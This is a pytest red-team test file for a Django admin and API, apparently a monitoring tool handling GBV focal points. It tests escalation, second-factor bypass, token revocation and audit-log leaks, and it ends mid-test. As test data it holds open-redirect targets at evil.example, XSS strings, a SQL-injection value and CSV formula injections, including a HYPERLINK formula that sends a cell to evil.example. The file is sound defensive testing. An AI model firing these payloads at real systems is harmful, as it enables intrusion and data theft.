"""A red-team pass on issue 11 (users page, Django admin lockdown, reset links, second factor, tokens, audit log):
each attack is a request a curious insider could send, through Django's test client or DRF's APIClient.

Attacks the code already holds are kept: they guard. Findings were written first (failing), then fixed.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import time
import typing
from types import SimpleNamespace
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_otp.oath import TOTP
from django_otp.plugins.otp_static.models import StaticDevice
from django_otp.plugins.otp_totp.models import TOTPDevice
from pytest_django import Settings
from rest_framework.test import APIClient

from conftest import PASSWORD, make_user
from core import services
from core.models import AdminArea, ApiToken, AuditEntry, Job, Notification, Organisation, User

REQUIRED_ROLES = frozenset({"admin", "gbv_focal_point"})
TOKEN_URL = "/api/v1/auth/token/"  # noqa: S105 -- a URL
VERIFY = "/account/second-factor/verify/"
ENROL = "/account/second-factor/"
NEW_PASSWORD = "Another-horse-2026"  # noqa: S105 -- a test password


@pytest.fixture
def cast(people: SimpleNamespace, lead: Organisation, partner: Organisation) -> SimpleNamespace:
    """people, plus admins of limited scope: Mopti only (lead), the partner (every region), and a superuser."""
    people.region_admin = make_user("region_admin", "admin", ["ML05"], lead)
    people.partner_admin = make_user("partner_admin", "admin", [], partner)
    people.mopti_monitor = make_user("mopti_monitor", "monitor", ["ML05"], lead)
    people.mopti_peer = make_user("mopti_peer", "admin", ["ML05"], lead)
    people.mopti_gbv = make_user("mopti_gbv", "gbv_focal_point", ["ML05"], lead)
    people.superuser = User.objects.create_superuser("root", "root@example.org", PASSWORD)
    people.lead, people.partner = lead, partner
    return people


@pytest.fixture
def otp_required(settings: Settings) -> None:
    settings.VIGIE_OTP_REQUIRED_ROLES = REQUIRED_ROLES


def as_user(client: Client, user: User) -> Client:
    client.force_login(user)
    return client


def region(pcode: str) -> AdminArea:
    return AdminArea.objects.get(pcode=pcode)


def form_of(user: User, **changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "first_name": user.first_name,
        "last_name": user.last_name,
        "email": user.email,
        "role": user.role,
        "organisation": user.organisation_id,
        "regions": list(user.regions.values_list("pk", flat=True)),
    }
    data.update(changes)
    return data


def new_user_form(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "username": "newcomer",
        "first_name": "",
        "last_name": "",
        "email": "",
        "role": "monitor",
        "organisation": Organisation.objects.get(is_lead=True).pk,
        "regions": [region("ML05").pk],
    }
    data.update(changes)
    return data


def scope(user: User) -> tuple[str, int | None, frozenset[str], bool]:
    fresh = User.objects.get(pk=user.pk)
    return fresh.role, fresh.organisation_id, fresh.region_pcodes(), fresh.is_active


def code(device: TOTPDevice, steps_ahead: int = 1) -> str:
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    totp.time = time.time() + steps_ahead * device.step
    return f"{totp.token():0{device.digits}d}"


def enrolled(user: User) -> TOTPDevice:
    return TOTPDevice.objects.create(user=user, name="authenticator", confirmed=True)


def password_login(client: Client, username: str, password: str = PASSWORD) -> None:
    response = client.post(reverse("login"), {"username": username, "password": password})
    assert response.status_code == 302, response.content.decode()[:300]


def token_client(key: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


# --- escalation through the users page


class TestEscalationOnTheUsersPage:
    @pytest.mark.parametrize("who", ["region_admin", "partner_admin"])
    def test_own_account_cannot_be_changed_by_a_crafted_post(self, cast: SimpleNamespace, who: str) -> None:
        me: User = getattr(cast, who)
        client = as_user(Client(), me)
        before = scope(me)
        crafted = form_of(me, organisation=cast.lead.pk, regions=[])
        response = client.post(reverse("user-edit", args=[me.pk]), crafted)
        assert response.status_code == 403
        assert scope(me) == before

    @pytest.mark.parametrize("who", ["region_admin", "partner_admin"])
    def test_own_account_cannot_be_deactivated_reactivated_or_reset(self, cast: SimpleNamespace, who: str) -> None:
        me: User = getattr(cast, who)
        client = as_user(Client(), me)
        client.post(reverse("user-deactivate", args=[me.pk]), {"confirm": "1"})
        response = client.post(reverse("user-reset-link", args=[me.pk]))
        assert response.status_code == 302
        assert "/accounts/reset/" not in response.content.decode()
        assert scope(me)[3] is True
        assert not AuditEntry.objects.filter(action=AuditEntry.Action.RESET_LINK, target_user=me).exists()

    def test_a_region_admin_cannot_add_regions_by_crafted_ids(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        crafted = form_of(cast.mopti_monitor, regions=[region("ML05").pk, region("ML07").pk])
        response = client.post(reverse("user-edit", args=[cast.mopti_monitor.pk]), crafted)
        assert response.status_code == 400
        assert scope(cast.mopti_monitor)[2] == {"ML05"}

    def test_a_region_admin_cannot_give_a_district_or_a_missing_area_as_a_region(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        district = AdminArea.objects.filter(level=2).exclude(parent__pcode="ML05").first()
        assert district is not None
        for crafted in ([district.pk], [10**12], ["x"], ["\x00"], ["٣"]):
            response = client.post(
                reverse("user-edit", args=[cast.mopti_monitor.pk]), form_of(cast.mopti_monitor, regions=crafted)
            )
            assert response.status_code == 400, crafted
        assert scope(cast.mopti_monitor)[2] == {"ML05"}

    def test_a_region_admin_cannot_make_an_admin_of_every_region(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        response = client.post(reverse("user-create"), new_user_form(role="admin", regions=[]))
        assert response.status_code == 400
        assert not User.objects.filter(username="newcomer").exists()
        response = client.post(
            reverse("user-edit", args=[cast.mopti_monitor.pk]), form_of(cast.mopti_monitor, role="admin", regions=[])
        )
        assert response.status_code == 400
        assert scope(cast.mopti_monitor)[0] == "monitor"

    def test_a_partner_admin_cannot_move_a_user_to_the_lead(self, cast: SimpleNamespace) -> None:
        make_user("amss_monitor", "monitor", ["ML07"], cast.partner)
        colleague = User.objects.get(username="amss_monitor")
        client = as_user(Client(), cast.partner_admin)
        response = client.post(
            reverse("user-edit", args=[colleague.pk]), form_of(colleague, organisation=cast.lead.pk, role="admin")
        )
        assert response.status_code == 400
        assert scope(colleague)[:2] == ("monitor", cast.partner.pk)
        response = client.post(reverse("user-create"), new_user_form(organisation=cast.lead.pk, regions=[]))
        assert response.status_code == 400
        assert not User.objects.filter(username="newcomer").exists()

    def test_a_peer_admin_cannot_change_the_admin_who_manages_them(self, cast: SimpleNamespace) -> None:
        """mopti_peer (Mopti) does not manage region_admin... they are peers of the same scope; but a Mopti admin
        never reaches the national admin (every region), nor a superuser."""
        client = as_user(Client(), cast.mopti_peer)
        for target in (cast.admin, cast.superuser):
            for url in ("user-edit", "user-deactivate", "user-reactivate", "user-reset-link"):
                response = client.post(reverse(url, args=[target.pk]), {**form_of(target), "confirm": "1"})
                assert response.status_code == 404, (target.username, url)
        assert scope(cast.admin)[3]
        assert scope(cast.superuser)[3]

    def test_an_admin_of_every_region_cannot_edit_a_superuser(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.admin)
        response = client.post(reverse("user-edit", args=[cast.superuser.pk]), form_of(cast.superuser, role="viewer"))
        assert response.status_code == 404
        response = client.post(reverse("user-reset-link", args=[cast.superuser.pk]))
        assert response.status_code == 404

    def test_a_deactivated_gbv_focal_point_is_not_reactivated_by_an_admin(self, cast: SimpleNamespace) -> None:
        services.user_deactivate(user=cast.mopti_gbv, by=cast.superuser)
        client = as_user(Client(), cast.region_admin)
        client.post(reverse("user-reactivate", args=[cast.mopti_gbv.pk]))
        assert scope(cast.mopti_gbv)[3] is False


class TestOutOfScopeIsA404:
    ROUTES = ("user-edit", "user-deactivate", "user-reactivate", "user-reset-link")

    @pytest.mark.parametrize("url_name", ROUTES)
    def test_same_answer_for_out_of_scope_and_missing(self, cast: SimpleNamespace, url_name: str) -> None:
        client = as_user(Client(), cast.region_admin)
        method = client.get if url_name in ("user-edit", "user-deactivate") else client.post
        out_of_scope = method(reverse(url_name, args=[cast.monitor.pk]))  # Gao
        missing = method(reverse(url_name, args=[987654]))
        huge = method(reverse(url_name, args=[10**30]))
        assert out_of_scope.status_code == missing.status_code == huge.status_code == 404
        # The same page but for the path asked (in the language form and the sign-in link) and the CSRF token.
        noise = re.compile(r'value="[^"]*"|next=[^"]*|' + re.escape(str(cast.monitor.pk)) + "|987654")
        assert noise.sub("", out_of_scope.content.decode()) == noise.sub("", missing.content.decode())

    @pytest.mark.parametrize("path", ["/users/abc/", "/users/%00/", "/users/%D9%A3/", "/users/-1/", "/users/1.0/"])
    def test_odd_pks_are_404s(self, cast: SimpleNamespace, path: str) -> None:
        assert as_user(Client(), cast.region_admin).get(path).status_code == 404

    def test_second_factor_reset_is_for_superusers_whatever_the_pk(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.admin)
        for pk in (cast.monitor.pk, 987654, 10**30):
            assert client.get(reverse("user-second-factor-reset", args=[pk])).status_code == 403
            assert client.post(reverse("user-second-factor-reset", args=[pk])).status_code == 403
        assert as_user(Client(), cast.superuser).get(f"/users/{10**30}/second-factor/reset/").status_code == 404


class TestUsersListLeaksNothing:
    def test_filtering_by_another_organisation_or_region_shows_nobody(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.partner_admin)
        for query in ({"organisation": "LEAD"}, {"organisation": cast.lead.code}, {"q": "monitor"}):
            body = client.get(reverse("user-list"), query).content.decode()
            assert "mopti_monitor" not in body, query
            assert ">monitor<" not in body, query
        client = as_user(Client(), cast.region_admin)
        for query in ({"region": "ML07"}, {"q": "gbv"}, {"role": "gbv_focal_point"}, {"q": "partner"}):
            body = client.get(reverse("user-list"), query).content.decode()
            assert "partner_monitor" not in body, query
            assert ">gbv<" not in body, query

    def test_a_missing_and_an_existing_other_organisation_answer_alike(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.partner_admin)
        existing = client.get(reverse("user-list"), {"organisation": cast.lead.code})
        missing = client.get(reverse("user-list"), {"organisation": "NOPE"})
        assert existing.status_code == missing.status_code
        strip = re.compile(r"(csrfmiddlewaretoken\" value=\"[^\"]+)|" + re.escape(cast.lead.code) + "|NOPE")
        assert strip.sub("", existing.content.decode()) == strip.sub("", missing.content.decode())

    @pytest.mark.parametrize("value", ["\x00", "٣", "x" * 5000, "%", "' OR 1=1 --"])
    def test_bad_filters_are_never_a_500(self, cast: SimpleNamespace, value: str) -> None:
        client = as_user(Client(), cast.region_admin)
        for name in ("q", "role", "organisation", "region", "active", "ordering", "page"):
            assert client.get(reverse("user-list"), {name: value}).status_code in (200, 400), name


class TestDjangoAdminLockdown:
    @pytest.mark.parametrize("who", ["region_admin", "partner_admin", "admin"])
    def test_user_pages_are_closed_to_admins(self, cast: SimpleNamespace, who: str) -> None:
        client = as_user(Client(), getattr(cast, who))
        me: User = getattr(cast, who)
        for pk in (me.pk, cast.superuser.pk, cast.mopti_monitor.pk):
            for suffix in ("change/", "password/", "history/", "delete/"):
                response = client.get(f"/admin/core/user/{pk}/{suffix}")
                assert response.status_code == 403, (pk, suffix, response.status_code)
            response = client.post(
                f"/admin/core/user/{pk}/password/", {"password1": NEW_PASSWORD, "password2": NEW_PASSWORD}
            )
            assert response.status_code == 403
        response = client.post(f"/admin/core/user/{me.pk}/change/", {"username": me.username, "role": "admin"})
        assert response.status_code == 403
        assert scope(me) == (me.role, me.organisation_id, me.region_pcodes(), True)

    @pytest.mark.parametrize(
        "path",
        [
            "/admin/otp_totp/totpdevice/",
            "/admin/otp_static/staticdevice/",
            "/admin/axes/accessattempt/",
            "/admin/axes/accesslog/",
            "/admin/core/auditentry/",
            "/admin/core/job/",
            "/admin/auth/group/",
            "/admin/core/user/add/",
        ],
    )
    def test_second_factor_secrets_and_logs_are_closed_to_admins(self, cast: SimpleNamespace, path: str) -> None:
        """A TOTP device's page shows its secret key: whoever reads it makes a GBV focal point's codes."""
        enrolled(cast.mopti_gbv)
        response = as_user(Client(), cast.admin).get(path)
        assert response.status_code == 403

    def test_audit_entries_cannot_be_changed_or_deleted_even_by_a_superuser(self, cast: SimpleNamespace) -> None:
        entry = AuditEntry.objects.create(action=AuditEntry.Action.LOGIN, actor=cast.monitor, username="monitor")
        client = as_user(Client(), cast.superuser)
        client.post(f"/admin/core/auditentry/{entry.pk}/change/", {"username": "someone"})
        client.post(f"/admin/core/auditentry/{entry.pk}/delete/", {"post": "yes"})
        client.post(
            "/admin/core/auditentry/", {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"}
        )
        entry.refresh_from_db()
        assert entry.username == "monitor"

    def test_a_partner_admin_cannot_make_their_organisation_lead(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.partner_admin)
        client.post(
            f"/admin/core/organisation/{cast.partner.pk}/change/",
            {"code": cast.partner.code, "name": cast.partner.name, "is_lead": "on", "is_active": "on"},
        )
        cast.partner.refresh_from_db()
        assert cast.partner.is_lead is False
        assert client.get(f"/admin/core/organisation/{cast.lead.pk}/change/").status_code in (302, 404)


# --- the GBV focal point role


class TestGbvRole:
    def test_an_admin_cannot_grant_it_on_the_page(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.admin)
        response = client.post(reverse("user-create"), new_user_form(role="gbv_focal_point"))
        assert response.status_code == 400
        response = client.post(
            reverse("user-edit", args=[cast.monitor.pk]), form_of(cast.monitor, role="gbv_focal_point")
        )
        assert response.status_code == 400
        assert scope(cast.monitor)[0] == "monitor"
        assert not User.objects.filter(username="newcomer").exists()

    def test_an_admin_cannot_change_a_focal_points_email_nor_make_their_reset_link(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.admin)
        response = client.post(reverse("user-edit", args=[cast.gbv.pk]), form_of(cast.gbv, email="evil@example.org"))
        assert response.status_code == 403
        assert User.objects.get(pk=cast.gbv.pk).email == "gbv@example.org"
        response = client.post(reverse("user-reset-link", args=[cast.gbv.pk]))
        assert "/accounts/reset/" not in response.content.decode()
        assert not AuditEntry.objects.filter(action=AuditEntry.Action.RESET_LINK, target_user=cast.gbv).exists()

    def test_an_admin_cannot_demote_a_focal_point_to_take_their_account(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.admin)
        response = client.post(reverse("user-edit", args=[cast.gbv.pk]), form_of(cast.gbv, role="monitor"))
        assert response.status_code == 403
        assert scope(cast.gbv)[0] == "gbv_focal_point"

    def test_the_api_has_no_route_to_grant_it(self, cast: SimpleNamespace, api_as: Any) -> None:
        client = api_as(cast.admin)
        for path in ("/api/v1/users/", f"/api/v1/users/{cast.monitor.pk}/"):
            assert client.post(path, {"role": "gbv_focal_point"}, format="json").status_code in (404, 405)
            assert client.patch(path, {"role": "gbv_focal_point"}, format="json").status_code in (404, 405)
        assert scope(cast.monitor)[0] == "monitor"

    def test_a_grant_tells_the_regions_focal_points_only(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.superuser)
        form = new_user_form(role="gbv_focal_point", regions=[region("ML05").pk])
        response = client.post(reverse("user-create"), form)
        assert response.status_code == 200, response.content.decode()[:500]
        told = set(
            Notification.objects.filter(message__contains="newcomer").values_list("recipient__username", flat=True)
        )
        assert told == {"mopti_gbv"}


# --- the second factor


@pytest.mark.usefixtures("otp_required")
class TestSecondFactorBypass:
    PAGES = (
        "/",
        "/users/",
        "/audit/",
        "/audit/?format=csv",
        "/account/tokens/",
        "/admin/",
        "/admin/core/organisation/",
        "/reports/exports/",
        "/reports/monthly/",
        "/api/docs/",
        "/accounts/password/change/",
    )

    @pytest.mark.parametrize("path", PAGES)
    def test_a_password_only_session_reaches_no_page(self, cast: SimpleNamespace, path: str) -> None:
        enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        response = client.get(path)
        assert response.status_code == 302, path
        assert response["Location"].startswith(VERIFY)

    def test_a_password_only_session_reaches_no_job_or_download(self, cast: SimpleNamespace) -> None:
        enrolled(cast.admin)
        job = Job.objects.create(kind="records", user=cast.admin, status="done")
        client = Client()
        password_login(client, "admin")
        for path in (f"/reports/jobs/{job.pk}/", f"/reports/jobs/{job.pk}/download/", f"/api/v1/jobs/{job.pk}/"):
            response = client.get(path)
            assert response.status_code in (302, 403), path
            if response.status_code == 302:
                assert response["Location"].startswith(VERIFY)

    @pytest.mark.parametrize(
        "path", ["/api/v1/incidents/", "/api/v1/auth/tokens/", "/api/schema/", "/api/v1/reports/monthly/"]
    )
    def test_a_password_only_session_gets_403_from_the_api(self, cast: SimpleNamespace, path: str) -> None:
        enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        assert client.get(path).status_code == 403

    def test_a_password_only_session_posts_nothing(self, cast: SimpleNamespace) -> None:
        enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        response = client.post(reverse("tokens"), {"name": "x", "days": "3"})
        assert response.status_code == 302
        assert not ApiToken.objects.filter(user=cast.admin).exists()
        response = client.post(reverse("user-create"), new_user_form())
        assert response.status_code == 302
        assert not User.objects.filter(username="newcomer").exists()

    def test_the_enrol_page_does_not_replace_a_device_without_its_code(self, cast: SimpleNamespace) -> None:
        device = enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        response = client.get(ENROL + "?new=1")
        assert response.status_code == 302
        assert response["Location"].startswith(VERIFY)
        # Even with a pending device's code: the attacker cannot see its QR code, but tries a POST blind.
        response = client.post(ENROL, {"code": "123456"})
        assert response.status_code == 302
        assert response["Location"].startswith(VERIFY)
        assert list(TOTPDevice.objects.filter(user=cast.admin).values_list("pk", flat=True)) == [device.pk]

    def test_backup_codes_are_not_regenerated_without_verification(self, cast: SimpleNamespace) -> None:
        enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        response = client.post("/account/second-factor/backup-codes/")
        assert response.status_code == 302
        assert not StaticDevice.objects.filter(user=cast.admin).exists()

    def test_a_totp_code_works_once(self, cast: SimpleNamespace) -> None:
        device = enrolled(cast.admin)
        first = Client()
        password_login(first, "admin")
        used = code(device)
        assert first.post(VERIFY, {"code": used}).status_code == 302
        second = Client()
        password_login(second, "admin")
        assert second.post(VERIFY, {"code": used}).status_code == 400
        assert second.get("/users/").status_code == 302
        api = APIClient().post(TOKEN_URL, {"username": "admin", "password": PASSWORD, "otp": used}, format="json")
        assert api.status_code == 400

    def test_guessing_codes_locks_the_account_out(self, cast: SimpleNamespace, settings: Settings) -> None:
        device = enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        statuses = [client.post(VERIFY, {"code": f"{n:06d}"}).status_code for n in range(settings.AXES_FAILURE_LIMIT)]
        assert statuses[-1] == 429
        # The right code is refused once locked out, on the page and on the API.
        again = Client()
        response = again.post(reverse("login"), {"username": "admin", "password": PASSWORD})
        assert response.status_code in (403, 429)
        right = {"username": "admin", "password": PASSWORD, "otp": code(device)}
        api = APIClient().post(TOKEN_URL, right, format="json")
        assert api.status_code == 429

    def test_guessing_codes_on_the_api_locks_out_too(self, cast: SimpleNamespace, settings: Settings) -> None:
        device = enrolled(cast.admin)
        api = APIClient()
        guesses = [{"username": "admin", "password": PASSWORD, "otp": f"{n:06d}"} for n in range(6)]
        statuses = [api.post(TOKEN_URL, guess, format="json").status_code for guess in guesses]
        assert statuses[-1] == 429
        right = api.post(TOKEN_URL, {"username": "admin", "password": PASSWORD, "otp": code(device)}, format="json")
        assert right.status_code == 429
        assert not ApiToken.objects.filter(user=cast.admin).exists()

    @pytest.mark.parametrize("otp", ["", " ", "\x00", "٣٣٣٣٣٣", "1" * 5000, None, 123456, ["1"], {"a": 1}])
    def test_the_token_endpoint_never_gives_a_token_without_a_code(self, cast: SimpleNamespace, otp: Any) -> None:
        enrolled(cast.admin)
        body: dict[str, Any] = {"username": "admin", "password": PASSWORD}
        if otp is not None:
            body["otp"] = otp
        response = APIClient().post(TOKEN_URL, body, format="json")
        assert response.status_code in (400, 429), response.content
        assert not ApiToken.objects.filter(user=cast.admin).exists()

    @pytest.mark.parametrize(
        "target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "https:evil.example", "\\\\evil"]
    )
    def test_next_never_leaves_the_site(self, cast: SimpleNamespace, target: str) -> None:
        device = enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        response = client.post(f"{VERIFY}?next={target}", {"code": code(device), "next": target})
        assert response.status_code == 302
        assert "evil" not in response["Location"]
        response = client.get(VERIFY, {"next": target})
        assert "evil" not in response.get("Location", "")
        response = client.get(ENROL, {"next": target, "new": "1"})
        assert response.status_code == 200
        assert 'name="next" value="/"' in response.content.decode()

    def test_a_token_obtained_without_otp_dies_when_the_role_comes_to_need_one(self, cast: SimpleNamespace) -> None:
        """A monitor's token (no second factor asked) must not become an admin's token once the monitor is made an
        admin: whoever stole it would hold an admin's API access that never passed a second factor."""
        response = APIClient().post(TOKEN_URL, {"username": "mopti_monitor", "password": PASSWORD}, format="json")
        assert response.status_code == 200
        key = response.json()["token"]
        assert token_client(key).get("/api/v1/incidents/").status_code == 200
        services.user_change(
            user=cast.mopti_monitor,
            by=cast.superuser,
            role="admin",
            organisation=cast.lead,
            regions=[region("ML05")],
            first_name="",
            last_name="",
            email="mopti_monitor@example.org",
        )
        assert token_client(key).get("/api/v1/incidents/").status_code == 401
        revoked = AuditEntry.objects.filter(action=AuditEntry.Action.TOKEN_REVOKED, target_user=cast.mopti_monitor)
        assert revoked.get().details == {"revoked": "all, role changed", "count": 1}

    def test_a_token_dies_when_the_scope_is_cut(self, cast: SimpleNamespace) -> None:
        """Made a viewer by an admin (the monitor left the field): their scripts' tokens stop with their rights
        changing, as a deactivation's do — else a token made under one role keeps working under another."""
        response = APIClient().post(TOKEN_URL, {"username": "mopti_monitor", "password": PASSWORD}, format="json")
        key = response.json()["token"]
        services.user_change(
            user=cast.mopti_monitor,
            by=cast.region_admin,
            role="supervisor",
            organisation=cast.lead,
            regions=[region("ML05")],
            first_name="",
            last_name="",
            email="mopti_monitor@example.org",
        )
        assert token_client(key).get("/api/v1/incidents/").status_code == 401


# --- tokens


class TestTokens:
    def test_another_users_token_cannot_be_revoked(self, cast: SimpleNamespace, api_as: Any) -> None:
        theirs, _key = ApiToken.objects.create(user=cast.supervisor, name="theirs")
        client = api_as(cast.admin)
        assert client.delete(f"/api/v1/auth/tokens/{theirs.token_key}/").status_code == 404
        assert client.delete("/api/v1/auth/tokens/zzzzzzzz/").status_code == 404
        page = as_user(Client(), cast.admin)
        assert page.post(reverse("token-revoke", args=[theirs.token_key])).status_code == 404
        assert ApiToken.objects.filter(pk=theirs.pk).exists()

    @pytest.mark.parametrize("key", ["%00", "%D9%A3", "x" * 3000, "%2e%2e"])
    def test_odd_token_keys_are_404s(self, cast: SimpleNamespace, api_as: Any, key: str) -> None:
        client = api_as(cast.admin)
        assert client.delete(f"/api/v1/auth/tokens/{key}/").status_code == 404
        assert as_user(Client(), cast.admin).get(f"/account/tokens/{key}/revoke/").status_code == 404

    def _token(self, user: User) -> str:
        _token, key = ApiToken.objects.create(user=user, name="script")
        return key

    def test_dies_with_a_reset_link(self, cast: SimpleNamespace) -> None:
        key = self._token(cast.mopti_monitor)
        link = services.reset_link(user=cast.mopti_monitor, by=cast.region_admin)
        client = Client()
        response = client.get(link.path, follow=True)
        form_url = response.redirect_chain[-1][0]
        client.post(form_url, {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD})
        assert User.objects.get(pk=cast.mopti_monitor.pk).check_password(NEW_PASSWORD)
        assert token_client(key).get("/api/v1/incidents/").status_code == 401

    def test_dies_with_a_superusers_password_change_in_the_django_admin(self, cast: SimpleNamespace) -> None:
        key = self._token(cast.mopti_monitor)
        client = as_user(Client(), cast.superuser)
        response = client.post(
            f"/admin/core/user/{cast.mopti_monitor.pk}/password/",
            {"password1": NEW_PASSWORD, "password2": NEW_PASSWORD, "usable_password": "true"},
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        assert token_client(key).get("/api/v1/incidents/").status_code == 401

    def test_dies_with_a_deactivation_on_the_users_page_and_the_bulk_action(self, cast: SimpleNamespace) -> None:
        key = self._token(cast.mopti_monitor)
        as_user(Client(), cast.region_admin).post(
            reverse("user-deactivate", args=[cast.mopti_monitor.pk]), {"confirm": "1"}
        )
        assert token_client(key).get("/api/v1/incidents/").status_code == 401
        key = self._token(cast.supervisor)
        as_user(Client(), cast.superuser).post(
            "/admin/core/user/", {"action": "deactivate_users", "_selected_action": [cast.supervisor.pk]}
        )
        assert token_client(key).get("/api/v1/incidents/").status_code == 401

    def test_an_expired_token_is_refused_and_deleted(self, cast: SimpleNamespace) -> None:
        token, key = ApiToken.objects.create(user=cast.monitor, name="old", expiry=datetime.timedelta(hours=1))
        ApiToken.objects.filter(pk=token.pk).update(expiry=timezone.now() - datetime.timedelta(seconds=1))
        assert token_client(key).get("/api/v1/incidents/").status_code == 401
        assert not ApiToken.objects.filter(pk=token.pk).exists()

    def test_a_token_name_is_shown_as_text(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.monitor)
        name = '<script>alert(1)</script>"><img src=x onerror=alert(1)>=HYPERLINK("x")'
        response = client.post(reverse("tokens"), {"name": name, "days": "3"})
        assert response.status_code == 200
        body = response.content.decode()
        assert "<script>alert(1)" not in body
        assert "<img src=x" not in body
        assert "&lt;script&gt;" in body

    @pytest.mark.parametrize("days", ["0", "-1", "91", "999999", "1e3", "٣", "3.5", "", "\x00", " 3 x"])
    def test_max_days_cannot_be_bypassed(self, cast: SimpleNamespace, settings: Settings, days: str) -> None:
        settings.VIGIE_API_TOKEN_MAX_DAYS = 90
        response = as_user(Client(), cast.monitor).post(reverse("tokens"), {"name": "x", "days": days})
        assert response.status_code in (200, 400)
        assert not ApiToken.objects.filter(user=cast.monitor).exists()

    def test_no_token_outlives_max_days(self, cast: SimpleNamespace, settings: Settings) -> None:
        settings.VIGIE_API_TOKEN_MAX_DAYS = 90
        as_user(Client(), cast.monitor).post(reverse("tokens"), {"name": "x", "days": "90"})
        token = ApiToken.objects.get(user=cast.monitor)
        assert token.expiry is not None
        assert token.expiry <= timezone.now() + datetime.timedelta(days=90, minutes=1)


# --- the audit log


class TestAuditLog:
    def _scenario(self, cast: SimpleNamespace) -> str:
        """Sign-ins, failures, a reset link used, tokens made and revoked, a user changed: what the log then holds."""
        Client().post(reverse("login"), {"username": "monitor", "password": "wrong-" + PASSWORD})
        password_login(Client(), "mopti_monitor")
        cast.mopti_monitor.refresh_from_db()  # the link hashes last_login, as the users page reads it
        link = services.reset_link(user=cast.mopti_monitor, by=cast.region_admin)
        client = Client()
        form_url = client.get(link.path, follow=True).redirect_chain[-1][0]
        client.post(form_url, {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD})
        response = APIClient().post(TOKEN_URL, {"username": "monitor", "password": PASSWORD}, format="json")
        plain = response.json()["token"]
        token_client(plain).post("/api/v1/auth/token/revoke/")
        page = as_user(Client(), cast.supervisor)
        page.post(reverse("tokens"), {"name": "nightly", "days": "3"})
        as_user(Client(), cast.region_admin).post(
            reverse("user-edit", args=[cast.mopti_monitor.pk]),
            form_of(cast.mopti_monitor, first_name="Awa", email="awa@example.org"),
        )
        return f"{link.path}|{plain}"

    def test_no_secret_is_in_any_entry(self, cast: SimpleNamespace) -> None:
        secrets = self._scenario(cast)
        link, plain = secrets.split("|")
        token = link.rstrip("/").rsplit("/", 1)[-1]
        for entry in AuditEntry.objects.all():
            text = f"{entry.username} {entry.details} {entry.object_id}"
            for secret in (PASSWORD, NEW_PASSWORD, plain, token, "Awa", "awa@example.org"):
                assert secret not in text, (entry.action, secret)

    def test_a_region_admin_reads_nothing_of_other_regions(self, cast: SimpleNamespace) -> None:
        self._scenario(cast)
        client = as_user(Client(), cast.region_admin)
        for query in ({}, {"user": "monitor"}, {"user": "supervisor"}, {"format": "csv"}, {"user": "root"}):
            response = client.get(reverse("audit-log"), query)
            if response.streaming:
                text = b"".join(typing.cast(Any, response).streaming_content).decode()
            else:
                rows = re.search(r"<tbody>(.*?)</tbody>", response.content.decode(), re.S)
                text = rows.group(1) if rows else ""
            for other in ("supervisor", ">monitor<", ",monitor,", "partner_admin", PASSWORD):
                assert other not in text, (query, other)

    def test_a_partner_admin_gets_no_other_usernames_as_suggestions(self, cast: SimpleNamespace) -> None:
        body = as_user(Client(), cast.partner_admin).get(reverse("audit-log")).content.decode()
        datalist = re.search(r'<datalist id="audit-users">(.*?)</datalist>', body, re.S)
        names = re.findall(r'value="([^"]*)"', datalist.group(1)) if datalist else []
        assert set(names) <= {"partner_admin", "partner_monitor"}

    def test_a_formula_typed_as_a_user_name_is_text_in_the_csv(self, cast: SimpleNamespace) -> None:
        typed = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        Client().post(reverse("login"), {"username": typed, "password": "x"})
        Client().post(reverse("login"), {"username": "@SUM(1+1)", "password": "x"})
        response = as_user(Client(), cast.superuser).get(reverse("audit-log"), {"format": "csv"})
        rows = list(csv.reader(io.StringIO(b"".join(typing.cast(Any, response).streaming_content).decode())))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells if cell), [
            cell for cell in cells if cell[:1] in ("=", "+", "-", "@")
        ]

    def test_the_log_cannot_be_changed_through_the_page(self, cast: SimpleNamespace) -> None:
        entry = AuditEntry.objects.create(action=AuditEntry.Action.LOGIN, actor=cast.monitor, username="monitor")
        client = as_user(Client(), cast.admin)
        for method in (client.post, client.put, client.delete, client.patch):
            assert method(reverse("audit-log"), {"id": entry.pk}).status_code == 405
        assert AuditEntry.objects.filter(pk=entry.pk, username="monitor").exists()

    @pytest.mark.parametrize("name", ["user", "action", "date_from", "date_to", "page", "format"])
    @pytest.mark.parametrize("value", ["\x00", "٢٠٢٦-٠١-٠١", "9999-99-99", "x" * 5000, "0000-01-01"])
    def test_bad_filters_are_never_a_500(self, cast: SimpleNamespace, name: str, value: str) -> None:
